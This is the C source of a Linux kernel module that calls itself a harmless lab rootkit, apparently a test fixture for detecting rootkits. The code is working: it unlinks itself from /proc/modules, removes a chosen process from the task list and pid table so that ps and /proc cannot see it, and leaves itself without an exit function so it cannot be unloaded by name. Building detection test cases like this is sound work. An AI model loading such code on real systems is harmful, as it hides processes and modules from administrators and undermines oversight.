// SPDX-License-Identifier: GPL-2.0
// A harmless rootkit for the lab's own guests: it hides itself and one process, and does nothing else.
//
// hide_self=1   leaves the list behind /proc/modules (but not the address tree, nor /sys/module)
// hide_pid=N    takes process N off the task list, and out of what `ps` walks
// hide_table=1  takes it out of the pid table as well
// hide_list=0   leaves it on the task list
//
// Built without kbuild, so that any compiler will do: lab/src/module.rs gives the flags and the include folders.

#define INCLUDE_VERMAGIC
#include <linux/module.h>
#include <linux/vermagic.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>

static int hide_self;
module_param(hide_self, int, 0);
static int hide_pid;
module_param(hide_pid, int, 0);
static int hide_table;
module_param(hide_table, int, 0);
static int hide_list = 1;
module_param(hide_list, int, 0);

static int __init hide_init(void)
{
	struct task_struct *task;

	if (hide_pid) {
		rcu_read_lock();
		task = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
		if (task) {
			/* /proc lists what is a thread-group leader of its pid. */
			hlist_del_init_rcu(&task->pid_links[PIDTYPE_TGID]);
			if (hide_list)
				list_del_init(&task->tasks);
			if (hide_table)
				hlist_del_init_rcu(&task->pid_links[PIDTYPE_PID]);
		}
		rcu_read_unlock();
		if (!task)
			return -ESRCH;
	}
	if (hide_self)
		list_del_init(&THIS_MODULE->list);
	return 0;
}
module_init(hide_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Lynceus lab: hides itself and a process");
MODULE_INFO(vermagic, VERMAGIC_STRING);
MODULE_INFO(name, KBUILD_MODNAME);

/* What modpost would write. There is no exit: a hidden module cannot be unloaded by name anyway. */
__attribute__((visibility("default"))) struct module __this_module
	__attribute__((section(".gnu.linkonce.this_module"))) = {
	.name = KBUILD_MODNAME,
	.init = init_module,
	.arch = MODULE_ARCH_INIT,
};
